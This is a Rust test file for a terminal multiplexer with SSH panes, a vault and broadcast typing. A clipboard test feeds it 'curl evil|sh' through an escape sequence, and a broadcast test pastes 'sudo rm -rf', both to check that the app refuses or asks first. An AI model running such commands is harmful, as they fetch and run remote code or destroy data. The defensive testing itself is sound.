//! The app driven by keys on channel-backed panes: tabs, splits, focus, zoom, popups, and
//! snapshots of what it draws.
#![allow(clippy::unwrap_used)]

mod common;

use common::app::{app, app_spec, app_spec_with, app_with, close, output, screen, written};
use crossterm::event::{Event, KeyCode, KeyEvent, KeyModifiers};
use lumen::app::PaneSpec;
use lumen::app::config::Config;
use lumen::ssh::{HostKeyDecision, PromptAnswer, PromptKind, PromptRequest, Target};
use lumen::stream::CloseReason;

fn key(app: &mut lumen::app::App, code: KeyCode, m: KeyModifiers) {
    app.handle_event(Event::Key(KeyEvent::new(code, m)));
}

fn ch(app: &mut lumen::app::App, c: char) {
    key(app, KeyCode::Char(c), KeyModifiers::NONE);
}

fn prefix(app: &mut lumen::app::App, c: char) {
    key(app, KeyCode::Char('b'), KeyModifiers::CONTROL);
    ch(app, c);
}

fn prefix_key(app: &mut lumen::app::App, code: KeyCode, m: KeyModifiers) {
    key(app, KeyCode::Char('b'), KeyModifiers::CONTROL);
    key(app, code, m);
}

#[test]
fn typing_goes_to_the_focused_pane() {
    let (mut app, b) = app(80, 24);
    for c in "ls".chars() {
        ch(&mut app, c);
    }
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    assert_eq!(written(&b, 0).0, b"ls\r");
}

#[test]
fn a_keystrokes_echo_is_drawn_at_once_other_output_at_the_frame_rate() {
    let (mut app, b) = app(80, 24);
    // Output nobody typed for waits for the frame slot.
    output(&mut app, &b, 0, b"$ ");
    assert!(!app.take_echo_frame());
    ch(&mut app, 'x');
    output(&mut app, &b, 0, b"x");
    assert!(app.take_echo_frame(), "the echo asks for a frame now");
    assert!(!app.take_echo_frame(), "once per keystroke");
    // A flood after it goes back to the frame rate.
    output(&mut app, &b, 0, b"more output");
    assert!(!app.take_echo_frame());
}

#[test]
fn prefix_twice_sends_the_prefix_through() {
    let (mut app, b) = app(80, 24);
    prefix_key(&mut app, KeyCode::Char('b'), KeyModifiers::CONTROL);
    assert_eq!(written(&b, 0).0, vec![0x02]);
    assert!(!app.prefix_pending);
}

#[test]
fn splits_focus_zoom_and_close() {
    let (mut app, b) = app(100, 30);
    prefix(&mut app, '%');
    assert_eq!(b.borrow().len(), 2, "split spawned a second pane");
    let tab = &app.tabs[0];
    assert_eq!(tab.layout.len(), 2);
    let right = tab.focused;
    // Both panes were resized to their halves, inside their borders.
    let (_, sizes) = written(&b, 1);
    assert_eq!(sizes.last(), Some(&(48, 26)));
    prefix_key(&mut app, KeyCode::Left, KeyModifiers::NONE);
    assert_ne!(app.tabs[0].focused, right);
    prefix(&mut app, '"');
    assert_eq!(app.tabs[0].layout.len(), 3);
    prefix(&mut app, 'z');
    assert!(app.tabs[0].layout.zoomed().is_some());
    assert!(screen(&app).contains("0:shZ") || screen(&app).contains("*Z"));
    prefix(&mut app, 'z');
    assert!(app.tabs[0].layout.zoomed().is_none());
    // x asks first; n keeps the pane, y closes it.
    prefix(&mut app, 'x');
    assert!(screen(&app).contains("Close this pane?"));
    ch(&mut app, 'n');
    assert_eq!(app.tabs[0].layout.len(), 3);
    prefix(&mut app, 'x');
    ch(&mut app, 'y');
    assert_eq!(app.tabs[0].layout.len(), 2);
}

#[test]
fn resize_keys_move_the_border() {
    let (mut app, _b) = app(100, 30);
    prefix(&mut app, '%');
    let before = app.panes[&app.tabs[0].focused].rect;
    prefix_key(&mut app, KeyCode::Left, KeyModifiers::CONTROL);
    let after = app.panes[&app.tabs[0].focused].rect;
    assert_eq!(after.x + 2, before.x);
    assert_eq!(after.width, before.width + 2);
}

#[test]
fn tabs_new_next_prev_goto_rename_move_close() {
    let (mut app, _b) = app(80, 24);
    prefix(&mut app, 'c');
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    prefix(&mut app, 'c');
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    assert_eq!((app.tabs.len(), app.active), (3, 2));
    prefix(&mut app, 'n');
    assert_eq!(app.active, 0);
    prefix(&mut app, 'p');
    assert_eq!(app.active, 2);
    prefix(&mut app, '1');
    assert_eq!(app.active, 1);
    prefix(&mut app, 'l');
    assert_eq!(app.active, 2);
    prefix(&mut app, ',');
    key(&mut app, KeyCode::Char('u'), KeyModifiers::CONTROL);
    for c in "db logs".chars() {
        ch(&mut app, c);
    }
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    assert_eq!(app.tab_title(2), "db logs");
    prefix(&mut app, '<');
    assert_eq!((app.active, app.tab_title(1).as_str()), (1, "db logs"));
    prefix(&mut app, '&');
    ch(&mut app, 'y');
    assert_eq!(app.tabs.len(), 2);
    assert!(!app.quit);
}

#[test]
fn closing_the_last_pane_quits() {
    let (mut app, _b) = app(80, 24);
    prefix(&mut app, 'x');
    ch(&mut app, 'y');
    assert!(app.quit);
}

#[test]
fn background_output_marks_the_tab() {
    let (mut app, b) = app(80, 24);
    prefix(&mut app, 'c');
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    output(&mut app, &b, 0, b"build finished\x07");
    assert!(app.tabs[0].activity);
    assert!(!app.tabs[1].activity, "the visible tab gets no marker");
    let s = screen(&app);
    assert!(s.contains(" 0:sh#"), "{s}");
    prefix(&mut app, '0');
    assert!(!app.tabs[0].activity, "visiting a tab clears its marker");
}

#[test]
fn palette_runs_an_action() {
    let (mut app, b) = app(80, 24);
    prefix(&mut app, ':');
    for c in "split right".chars() {
        ch(&mut app, c);
    }
    let s = screen(&app);
    assert!(s.contains("split pane right"), "{s}");
    assert!(s.contains("C-b %"), "{s}");
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    assert_eq!(b.borrow().len(), 2);
}

#[test]
fn configured_prefix_and_bindings_apply() {
    let cfg = Config::parse("c.toml", "prefix = \"C-a\"\n[keys]\nsplit_right = \"|\"\n").unwrap();
    let (mut app, b) = app_with(cfg, 80, 24);
    key(&mut app, KeyCode::Char('a'), KeyModifiers::CONTROL);
    ch(&mut app, '|');
    assert_eq!(b.borrow().len(), 2);
    // The old prefix is now an ordinary key for the program.
    key(&mut app, KeyCode::Char('b'), KeyModifiers::CONTROL);
    assert!(!app.prefix_pending);
}

#[test]
fn unbound_key_after_prefix_says_so() {
    let (mut app, _b) = app(80, 24);
    prefix(&mut app, 'y');
    assert!(
        app.message
            .as_ref()
            .is_some_and(|m| m.text.contains("C-b y is not bound"))
    );
}

#[test]
fn tiny_terminal_shows_a_message_and_recovers() {
    let (mut app, _b) = app(80, 24);
    prefix(&mut app, '%');
    app.handle_event(Event::Resize(1, 1));
    assert_eq!(screen(&app).lines().next().unwrap(), "\"t\"");
    app.handle_event(Event::Resize(12, 3));
    assert!(screen(&app).contains("terminal too"));
    app.handle_event(Event::Resize(80, 24));
    assert!(screen(&app).contains("0:sh*"));
}

#[test]
fn snapshot_tab_bar_and_splits() {
    let (mut app, b) = app(60, 12);
    prefix(&mut app, 'c');
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    prefix(&mut app, ',');
    key(&mut app, KeyCode::Char('u'), KeyModifiers::CONTROL);
    for c in "logs".chars() {
        ch(&mut app, c);
    }
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    prefix(&mut app, '%');
    prefix(&mut app, '"');
    output(&mut app, &b, 1, b"left pane\r\n$ ");
    output(&mut app, &b, 2, b"top right\r\n$ ");
    output(&mut app, &b, 3, b"bottom right\r\n$ ");
    output(&mut app, &b, 0, b"\x07");
    insta::assert_snapshot!(screen(&app));
}

#[test]
fn snapshot_help_and_palette() {
    let (mut app, _b) = app(70, 24);
    prefix(&mut app, '?');
    insta::assert_snapshot!("help", screen(&app));
    key(&mut app, KeyCode::Esc, KeyModifiers::NONE);
    prefix(&mut app, ':');
    for c in "tab".chars() {
        ch(&mut app, c);
    }
    key(&mut app, KeyCode::Down, KeyModifiers::NONE);
    insta::assert_snapshot!("palette", screen(&app));
}

#[test]
fn new_tab_asks_host_or_local_shell_and_completes() {
    let (mut app, _b, specs) = app_spec(Config::default(), 80, 24, PaneSpec::LocalShell);
    app.host_names = vec!["db-primary".into(), "db-replica".into(), "web1".into()];
    prefix(&mut app, 'c');
    let s = screen(&app);
    assert!(s.contains("host or local shell"), "{s}");
    ch(&mut app, 'd');
    key(&mut app, KeyCode::Tab, KeyModifiers::NONE);
    key(&mut app, KeyCode::Tab, KeyModifiers::NONE);
    assert!(screen(&app).contains("> db-replica"));
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    assert_eq!(
        specs.borrow().last(),
        Some(&PaneSpec::Ssh {
            name: "db-replica".into(),
            target: Target::parse("db-replica", None, None).unwrap(),
            plan: None,
        })
    );
    assert_eq!(app.tab_title(1), "db-replica");
    prefix(&mut app, 'c');
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    assert_eq!(specs.borrow().last(), Some(&PaneSpec::LocalShell));
    prefix(&mut app, 'c');
    for c in "bob@".chars() {
        ch(&mut app, c);
    }
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    assert_eq!(app.tabs.len(), 3, "a bad destination opens nothing");
    assert!(app.message.as_ref().is_some_and(|m| m.error));
}

#[test]
fn ended_ssh_pane_stays_and_reconnects() {
    let spec = PaneSpec::Ssh {
        name: "db1".into(),
        target: Target::new("bob", "db1", 22),
        plan: None,
    };
    let (mut app, b, specs) = app_spec(Config::default(), 80, 24, spec.clone());
    output(&mut app, &b, 0, b"last words\r\n");
    close(&mut app, &b, 0, CloseReason::KeepaliveTimeout);
    assert_eq!(app.tabs.len(), 1, "the pane stays");
    let id = app.tabs[0].focused;
    assert!(app.reconnectable(id));
    ch(&mut app, 'x');
    assert_eq!(specs.borrow().len(), 1, "other keys do nothing");
    ch(&mut app, 'r');
    assert_eq!(specs.borrow().as_slice(), &[spec.clone(), spec]);
    assert!(!app.reconnectable(id));
    ch(&mut app, 'l');
    assert_eq!(written(&b, 1).0, b"l", "the new session gets the keys");
}

#[test]
fn ssh_questions_show_above_everything() {
    let (mut app, _b) = app(90, 24);
    prefix(&mut app, '?');
    let (reply, mut rx) = tokio::sync::oneshot::channel();
    app.ask(PromptRequest {
        kind: PromptKind::UnknownHostKey {
            host: "127.0.0.1".into(),
            port: 2222,
            key_type: "ED25519".into(),
            fingerprint: "SHA256:AAAAtestfingerprint".into(),
        },
        reply,
    });
    let s = screen(&app);
    assert!(s.contains("SHA256:AAAAtestfingerprint"), "{s}");
    assert!(s.contains("[127.0.0.1]:2222"), "{s}");
    insta::assert_snapshot!("host_key_dialog", s);
    ch(&mut app, 'o');
    assert!(matches!(
        rx.try_recv(),
        Ok(Some(PromptAnswer::HostKey(HostKeyDecision::AcceptOnce)))
    ));
    assert!(screen(&app).contains("Keys"), "the help is back");
}

#[test]
fn broadcast_sends_keys_to_every_chosen_pane() {
    let (mut app, b) = app(120, 30);
    prefix(&mut app, 'b');
    assert!(
        app.message
            .as_ref()
            .is_some_and(|m| m.text.contains("split first"))
    );
    prefix(&mut app, '%');
    prefix(&mut app, '"');
    prefix(&mut app, 'b');
    assert_eq!(app.tabs[0].broadcast.len(), 3);
    for c in "uptime".chars() {
        ch(&mut app, c);
    }
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    for i in 0..3 {
        assert_eq!(written(&b, i).0, b"uptime\r", "pane {i}");
    }
    let s = screen(&app);
    assert_eq!(
        s.matches("BROADCAST").count(),
        4,
        "three marked panes and the status bar:\n{s}"
    );
    assert!(s.contains("BROADCAST: 3 panes"), "{s}");
    // Take the focused pane out: it types alone; the other two still share.
    prefix(&mut app, 'B');
    ch(&mut app, 'x');
    assert_eq!(written(&b, 2).0, b"x");
    assert!(written(&b, 0).0.is_empty() && written(&b, 1).0.is_empty());
    prefix_key(&mut app, KeyCode::Left, KeyModifiers::NONE);
    ch(&mut app, 'y');
    assert_eq!(
        (written(&b, 0).0, written(&b, 1).0),
        (b"y".to_vec(), b"y".to_vec())
    );
    prefix(&mut app, 'b');
    assert!(app.tabs[0].broadcast.is_empty());
}

#[test]
fn risky_broadcast_pastes_ask_first() {
    let (mut app, b) = app(120, 30);
    prefix(&mut app, '%');
    prefix(&mut app, 'b');
    app.handle_event(Event::Paste("df -h".into()));
    assert!(
        app.layers.is_empty(),
        "one harmless line goes straight through"
    );
    assert_eq!(written(&b, 0).0, b"df -h");
    assert_eq!(written(&b, 1).0, b"df -h");
    app.handle_event(Event::Paste("sudo rm -rf /var/lib/app".into()));
    let s = screen(&app);
    assert!(
        s.contains("looks destructive") && s.contains("2 panes"),
        "{s}"
    );
    insta::assert_snapshot!("broadcast_paste_confirm", s);
    ch(&mut app, 'n');
    assert!(
        written(&b, 0).0.is_empty() && written(&b, 1).0.is_empty(),
        "nothing sent"
    );
    app.handle_event(Event::Paste("uptime\nw\n".into()));
    assert!(screen(&app).contains("2 lines into 2 panes"));
    ch(&mut app, 'y');
    for i in 0..2 {
        let got = String::from_utf8(written(&b, i).0).unwrap();
        assert!(
            got.contains("uptime") && got.contains('w'),
            "pane {i}: {got:?}"
        );
    }
}

mod vault_pane {
    use super::*;
    use lumen::app::{ClientEffect, ClipboardRequest, Effect};
    use lumen::vault::{KdfParams, Kind, NewEntry, Scope, Vault, VaultOwner};
    use secrecy::{ExposeSecret, SecretString};

    const FAST: KdfParams = KdfParams {
        memory_kib: 64,
        time: 1,
        lanes: 1,
    };

    fn vault_app(dir: &std::path::Path) -> lumen::app::App {
        let path = dir.join("vault.lumen");
        let pass = SecretString::from("correct horse");
        let mut v = Vault::create(&path, &pass, FAST).unwrap();
        v.add(
            "db/root",
            NewEntry {
                kind: Some(Kind::Password),
                username: Some("root".into()),
                secret: Some(SecretString::from("hunter2-the-secret")),
                ..NewEntry::default()
            },
        )
        .unwrap();
        v.save().unwrap();
        let mut opts = common::app::options(100, 30);
        opts.vault = VaultOwner::new(vec![(Scope::Personal, path)]);
        lumen::app::App::new(opts)
    }

    fn type_line(app: &mut lumen::app::App, text: &str) {
        for c in text.chars() {
            ch(app, c);
        }
        key(app, KeyCode::Enter, KeyModifiers::NONE);
    }

    /// Let the background unlock finish (run it here, as the event loop would).
    fn settle(app: &mut lumen::app::App) {
        let others = common::app::settle(app);
        assert!(others.is_empty(), "{others:?}");
    }

    #[test]
    fn unlock_browse_copy_and_lock() {
        let dir = tempfile::tempdir().unwrap();
        let mut app = vault_app(dir.path());
        app.new_tab(PaneSpec::LocalShell);
        prefix(&mut app, 'v');
        let s = screen(&app);
        assert!(s.contains("Unlock vault"), "{s}");
        type_line(&mut app, "wrong one");
        settle(&mut app);
        assert!(
            screen(&app).contains("wrong passphrase"),
            "{}",
            screen(&app)
        );
        let kdf_before = lumen::vault::format::kdf_runs();
        type_line(&mut app, "correct horse");
        settle(&mut app);
        assert_eq!(
            lumen::vault::format::kdf_runs() - kdf_before,
            1,
            "one unlock derives the key once, for the browser and logins alike"
        );
        assert!(
            app.vault.is_unlocked(),
            "logins see the same unlocked vault"
        );
        assert!(app.layers.unlock().is_none(), "{}", screen(&app));
        let s = screen(&app);
        assert!(s.contains("1:vault*") && s.contains("db/root"), "{s}");
        assert!(!s.contains("hunter2"), "the secret is masked:\n{s}");
        ch(&mut app, 'c');
        // The copy reads the secret (audited) off the UI task, then sets the clipboard.
        let effects = common::app::settle(&mut app);
        assert!(
            matches!(&effects[..], [Effect::Client(ClientEffect::Clipboard(ClipboardRequest::SetSecret(s)))] if s.expose_secret() == "hunter2-the-secret"),
            "{effects:?}"
        );
        assert_eq!(app.clipboard, None, "a secret is never kept for paste");
        prefix(&mut app, 'L');
        assert!(screen(&app).contains("LOCKED") || screen(&app).contains("locked"));
        // The vault pane can be re-unlocked in place.
        prefix(&mut app, 'v');
        assert!(screen(&app).contains("Unlock vault"));
        key(&mut app, KeyCode::Esc, KeyModifiers::NONE);
        assert!(app.layers.unlock().is_none());
    }

    #[test]
    fn a_login_asks_to_unlock_and_locking_forgets_it() {
        let dir = tempfile::tempdir().unwrap();
        let mut app = vault_app(dir.path());
        app.new_tab(PaneSpec::LocalShell);
        let creds = lumen::ssh::VaultCredentials::new(app.vault.clone());
        let (reply, mut answer) = tokio::sync::oneshot::channel();
        app.unlock_for_login(reply);
        assert!(
            screen(&app).contains("Unlock vault for a login"),
            "{}",
            screen(&app)
        );
        type_line(&mut app, "correct horse");
        settle(&mut app);
        assert_eq!(answer.try_recv(), Ok(true));
        assert!(creds.is_unlocked());
        assert!(
            !screen(&app).contains("vault*"),
            "a login does not open the browser"
        );
        prefix(&mut app, 'L');
        assert!(!creds.is_unlocked(), "locking drops the login copy too");
        // Esc refuses: the login hears "still locked".
        let (reply, mut answer) = tokio::sync::oneshot::channel();
        app.unlock_for_login(reply);
        key(&mut app, KeyCode::Esc, KeyModifiers::NONE);
        assert_eq!(answer.try_recv(), Ok(false));
    }

    #[test]
    fn no_vault_says_how_to_make_one() {
        let dir = tempfile::tempdir().unwrap();
        let mut opts = common::app::options(100, 30);
        opts.vault = VaultOwner::new(vec![(Scope::Personal, dir.path().join("none.lumen"))]);
        let mut app = lumen::app::App::new(opts);
        app.new_tab(PaneSpec::LocalShell);
        prefix(&mut app, 'v');
        assert!(
            app.message
                .as_ref()
                .is_some_and(|m| m.text.contains("lumen vault init")),
        );
    }
}

#[test]
fn host_picker_opens_marked_hosts_tiled_and_shows_states() {
    let inventory: lumen::workspace::Inventory = toml_hosts(
        "[hosts.web1]\nhostname = \"10.0.0.1\"\nuser = \"ops\"\ngroups = [\"web\"]\n\n[hosts.db1]\nhostname = \"10.0.0.2\"\nport = 2222\ngroups = [\"db\"]\n",
    );
    let (mut app, b, specs) = app_spec_with(120, 30, PaneSpec::LocalShell, |o| {
        o.inventory = inventory;
    });
    prefix(&mut app, 'h');
    let s = screen(&app);
    assert!(
        s.contains("1:hosts*") && s.contains("web1") && s.contains("db1"),
        "{s}"
    );
    // Mark both (the list is grouped: db first, then web) and open them together.
    ch(&mut app, ' ');
    key(&mut app, KeyCode::Down, KeyModifiers::NONE);
    ch(&mut app, ' ');
    key(&mut app, KeyCode::Enter, KeyModifiers::NONE);
    assert_eq!(app.tabs.len(), 3);
    assert_eq!(app.tabs[2].layout.len(), 2, "two hosts tile in one tab");
    let names: Vec<String> = specs
        .borrow()
        .iter()
        .filter_map(|s| match s {
            PaneSpec::Ssh { name, target, .. } => Some(format!("{name}={target}")),
            _ => None,
        })
        .collect();
    assert_eq!(
        names,
        [
            "db1=root@10.0.0.2:2222".replace("root", &lumen::ssh::target::local_user()),
            "web1=ops@10.0.0.1".to_string()
        ]
    );
    output(&mut app, &b, 1, b"welcome\r\n$ ");
    close(&mut app, &b, 2, CloseReason::ServerClosed);
    prefix(&mut app, 'h');
    let s = screen(&app);
    assert!(s.contains("connected"), "{s}");
    assert!(s.contains("server closed"), "{s}");
}

fn toml_hosts(text: &str) -> lumen::workspace::Inventory {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hosts.toml");
    std::fs::write(&path, text).unwrap();
    let (inv, err) = lumen::workspace::load_or_report(&path);
    assert!(err.is_none(), "{err:?}");
    inv
}

#[test]
fn a_click_under_a_dialog_reaches_no_pane() {
    use crossterm::event::{MouseButton, MouseEvent, MouseEventKind};
    let (mut app, b) = app(120, 30);
    prefix(&mut app, '%');
    let right = app.tabs[0].focused;
    let left = app.tabs[0].layout.panes()[0];
    assert_ne!(left, right);
    // A program in the left pane asks for mouse reports, so a click there would send bytes.
    output(&mut app, &b, 0, b"\x1b[?1000h\x1b[?1006h");
    let click = |app: &mut lumen::app::App| {
        app.handle_event(Event::Mouse(MouseEvent {
            kind: MouseEventKind::Down(MouseButton::Left),
            column: 5,
            row: 5,
            modifiers: KeyModifiers::NONE,
        }))
    };
    for open in 0..3 {
        match open {
            0 => prefix(&mut app, ':'),
            1 => app.ask(PromptRequest {
                kind: PromptKind::Password {
                    user: "u".into(),
                    host: "h".into(),
                },
                reply: tokio::sync::oneshot::channel().0,
            }),
            _ => prefix(&mut app, '?'),
        }
        assert!(!app.layers.is_empty());
        click(&mut app);
        assert_eq!(app.tabs[0].focused, right, "focus moved under a dialog");
        assert!(
            written(&b, 0).0.is_empty(),
            "bytes reached the pane under a dialog"
        );
    }
    // With every dialog closed the same click focuses the pane and reaches the program.
    while !app.layers.is_empty() {
        key(&mut app, KeyCode::Esc, KeyModifiers::NONE);
    }
    click(&mut app);
    assert_eq!(app.tabs[0].focused, left);
    assert!(!written(&b, 0).0.is_empty());
}

#[test]
fn a_program_setting_the_clipboard_is_asked_about_per_host() {
    use lumen::app::{ClientEffect, ClipboardRequest, Effect};
    let clip = |app: &mut lumen::app::App| -> Vec<String> {
        app.take_effects()
            .into_iter()
            .filter_map(|e| match e {
                Effect::Client(ClientEffect::Clipboard(ClipboardRequest::Set(t))) => Some(t),
                _ => None,
            })
            .collect()
    };
    let osc52 = |text: &str| {
        use base64::Engine;
        format!(
            "\x1b]52;c;{}\x07",
            base64::engine::general_purpose::STANDARD.encode(text)
        )
    };
    let (mut app, b) = app(100, 30);
    // Deny: nothing reaches the clipboard.
    output(&mut app, &b, 0, osc52("curl evil|sh").as_bytes());
    let s = screen(&app);
    assert!(
        s.contains("wants to set your clipboard") && s.contains("curl evil|sh"),
        "{s}"
    );
    assert!(s.contains("a local shell"), "{s}");
    ch(&mut app, 'd');
    assert!(clip(&mut app).is_empty());
    assert_eq!(app.clipboard, None);
    // Allow once: this text, and the next request asks again.
    output(&mut app, &b, 0, osc52("uptime").as_bytes());
    ch(&mut app, 'o');
    assert_eq!(clip(&mut app), ["uptime"]);
    output(&mut app, &b, 0, osc52("df -h").as_bytes());
    assert!(screen(&app).contains("wants to set your clipboard"));
    // Always for this host: this one and later ones go through without a question.
    ch(&mut app, 'a');
    assert_eq!(clip(&mut app), ["df -h"]);
    output(&mut app, &b, 0, osc52("free -m").as_bytes());
    assert!(app.layers.is_empty());
    assert_eq!(clip(&mut app), ["free -m"]);
    // lumen's own copies never ask.
    let mut config = Config::default();
    config.clipboard = lumen::app::config::ClipboardPolicy::Deny;
    let (mut app, b) = app_with(config, 100, 30);
    output(&mut app, &b, 0, osc52("curl evil|sh").as_bytes());
    assert!(app.layers.is_empty());
    assert!(clip(&mut app).is_empty());
    assert!(
        app.message
            .as_ref()
            .is_some_and(|m| m.text.contains("refused"))
    );
}

#[test]
fn prefix_page_up_enters_copy_mode_one_page_up() {
    let lines: String = (0..200).map(|i| format!("line {i}\r\n")).collect();
    let terminal = |app: &lumen::app::App| {
        let id = app.focused().unwrap();
        let t = app.panes[&id].pane.as_terminal().unwrap();
        (t.in_copy_mode(), t.scroll_offset(), t.screen_text())
    };
    let (mut app, b) = app(80, 24);
    output(&mut app, &b, 0, lines.as_bytes());
    let (_, _, bottom) = terminal(&app);
    assert!(bottom.contains("line 199"), "{bottom}");
    prefix_key(&mut app, KeyCode::PageUp, KeyModifiers::NONE);
    let (copying, offset, page) = terminal(&app);
    assert!(copying, "C-b PgUp enters copy mode");
    assert!(offset > 0 && !page.contains("line 199"), "{page}");
    assert!(
        written(&b, 0).0.is_empty(),
        "nothing was sent to the program"
    );
    // The same page as copy mode's own PgUp (C-b [ then PgUp).
    let (mut other, ob) = common::app::app(80, 24);
    output(&mut other, &ob, 0, lines.as_bytes());
    prefix(&mut other, '[');
    key(&mut other, KeyCode::PageUp, KeyModifiers::NONE);
    assert_eq!(terminal(&other), (true, offset, page.clone()));
    // Again: one more page up, as in copy mode.
    prefix_key(&mut app, KeyCode::PageUp, KeyModifiers::NONE);
    key(&mut other, KeyCode::PageUp, KeyModifiers::NONE);
    assert_eq!(terminal(&app), terminal(&other));
    assert!(terminal(&app).1 > offset);
}

/// The rows of `s` (as `screen` prints them) without the quotes.
fn rows(s: &str) -> Vec<String> {
    s.lines().map(|l| l.trim_matches('"').to_string()).collect()
}

#[test]
fn the_key_help_uses_the_height_and_shows_lumens_keys_first() {
    for (w, h, name) in [(80, 24, "help_80x24"), (160, 45, "help_160x45")] {
        let (mut app, _b) = app(w, h);
        prefix(&mut app, '?');
        let s = screen(&app);
        insta::assert_snapshot!(name, s);
        let rows = rows(&s);
        for key in ["C-b a ", "C-b S ", "C-b v ", "C-b h ", "C-b d "] {
            assert!(s.contains(key), "{key} on the first page at {w}x{h}:\n{s}");
        }
        if w == 80 {
            // Cut, the popup runs from under the tab bar to over the status bar, and says so.
            assert!(rows[1].contains("┌ Keys"), "{s}");
            assert!(rows[h as usize - 2].contains('┘'), "{s}");
            assert!(s.contains("↓ more (PgDn)"), "a cut help says so:\n{s}");
            // At its end the cue points back up.
            key(&mut app, KeyCode::End, KeyModifiers::NONE);
            assert!(screen(&app).contains("↑ more (PgUp)"), "{}", screen(&app));
        } else {
            // 45 rows hold all of it, down to the copy-mode keys, with nothing to scroll.
            assert!(
                s.contains("arrows/hjkl move") && !s.contains("more (Pg"),
                "{s}"
            );
        }
    }
}

#[test]
fn a_wrapped_help_line_keeps_its_indent() {
    let (mut app, _b) = app(48, 30);
    prefix(&mut app, '?');
    let s = screen(&app);
    let rows = rows(&s);
    let at = rows
        .iter()
        .position(|r| r.contains("C-b S"))
        .unwrap_or_else(|| panic!("{s}"));
    let col = rows[at].find("C-b S").unwrap();
    let what = rows[at].find("scan").unwrap();
    let next = &rows[at + 1];
    // The description goes on under itself, not under the keys.
    assert_eq!(
        next[col..what].trim(),
        "",
        "continuation under the keys:\n{s}"
    );
    assert!(
        next[what..].starts_with(|c: char| c.is_alphanumeric()),
        "continuation starts in the description column:\n{s}"
    );
}

#[test]
fn palette_descriptions_stop_before_their_keys() {
    for (w, h, name) in [
        (80, 24, Some("palette_80x24")),
        (160, 45, Some("palette_160x45")),
        (44, 24, None),
    ] {
        let (mut app, _b) = app(w, h);
        prefix(&mut app, ':');
        for c in "vault".chars() {
            ch(&mut app, c);
        }
        let s = screen(&app);
        if let Some(name) = name {
            insta::assert_snapshot!(name, s);
        }
        let row = rows(&s)
            .into_iter()
            .find(|r| r.contains("C-b v"))
            .unwrap_or_else(|| panic!("{s}"));
        let before = &row[..row.find("C-b v").unwrap()];
        assert!(
            before.ends_with("  "),
            "a gap before the keys at {w}x{h}: {row}"
        );
        if w < 60 {
            assert!(before.contains('…'), "cut with …: {row}");
        } else {
            assert!(before.contains("(asks to unlock)"), "{row}");
        }
    }
}

#[test]
fn side_by_side_panes_share_one_border_column() {
    let (mut app, b) = app(100, 30);
    prefix(&mut app, '%');
    let (_, left) = written(&b, 0);
    let (_, right) = written(&b, 1);
    let (lc, lr) = *left.last().unwrap();
    let (rc, rr) = *right.last().unwrap();
    // Three border columns in all: left edge, one shared separator, right edge.
    assert_eq!(lc + rc + 3, 100, "{left:?} {right:?}");
    assert_eq!((lr, rr), (26, 26));
    output(&mut app, &b, 0, b"L");
    output(&mut app, &b, 1, b"R");
    let s = screen(&app);
    assert!(!s.contains("││") && !s.contains("┐┌"), "{s}");
    let first = &rows(&s)[2];
    let chars: Vec<char> = first.chars().collect();
    // Each program's column 0 is drawn right after the border the PTY size allows for.
    assert_eq!(chars[1], 'L', "{first}");
    assert_eq!(chars[usize::from(lc) + 2], 'R', "{first}");
    assert_eq!(chars[usize::from(lc) + 1], '│', "{first}");
    // A click in the right pane's first column focuses it and reaches it at column 0.
    prefix_key(&mut app, KeyCode::Left, KeyModifiers::NONE);
    let right_id = app.tabs[0].layout.panes()[1];
    app.handle_event(crossterm::event::Event::Mouse(
        crossterm::event::MouseEvent {
            kind: crossterm::event::MouseEventKind::Down(crossterm::event::MouseButton::Left),
            column: lc + 2,
            row: 2,
            modifiers: KeyModifiers::NONE,
        },
    ));
    assert_eq!(app.tabs[0].focused, right_id);
}

#[test]
fn the_split_snapshot_at_80x24_draws_single_separators() {
    let (mut app, b) = app(80, 24);
    prefix(&mut app, '%');
    prefix(&mut app, '"');
    output(&mut app, &b, 0, b"left\r\n$ ");
    output(&mut app, &b, 1, b"top right\r\n$ ");
    output(&mut app, &b, 2, b"bottom right\r\n$ ");
    let s = screen(&app);
    insta::assert_snapshot!("split_80x24", s);
    assert!(!s.contains("││"), "{s}");
    assert!(
        s.contains('┬') && s.contains('┴') && s.contains('├') && s.contains('┤'),
        "{s}"
    );
}
